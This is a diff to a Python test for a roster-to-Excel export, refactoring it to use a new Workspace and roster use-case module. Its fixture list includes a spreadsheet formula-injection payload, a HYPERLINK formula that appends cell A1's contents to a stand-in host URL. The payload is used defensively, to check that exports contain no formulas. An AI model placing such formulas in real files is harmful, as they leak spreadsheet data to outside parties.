@@ -14,6 +14,7 @@ import openpyxl
 import pytest
 
 from sotay_core.domain.spreadsheet import csv_cell, formula_like, keep_as_text
+from sotay_desktop.usecases import roster
 
 TODAY = dt.date(2026, 11, 22)
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+84 912 345 678",
@@ -60,15 +61,15 @@ def test_roster_book_writes_names_and_notes_as_text(demo_db, tmp_path: Path) -> 
     from sqlalchemy import select
 
     from sotay_desktop.db.tables import MemberRow
-    from sotay_desktop.services.store import BranchStore
+    from sotay_desktop.usecases.workspace import Workspace
 
     with demo_db.sessions.begin() as session:   # values as a hostile file or PC could leave
         rows = session.scalars(select(MemberRow).order_by(MemberRow.sort_key).limit(3)).all()
         rows[0].notes = HOSTILE[0]
         rows[1].hometown = HOSTILE[2]
         rows[2].service_background = HOSTILE[3]
-    store = BranchStore(demo_db, today=lambda: TODAY)
-    target = store.export_roster(tmp_path / "mau7.xlsx")
+    store = Workspace(demo_db, today=lambda: TODAY)
+    target = roster.export_roster(store, tmp_path / "mau7.xlsx")
     data = target.read_bytes()
     assert "<f>" not in _sheet_xml(data)
     book = openpyxl.load_workbook(target)
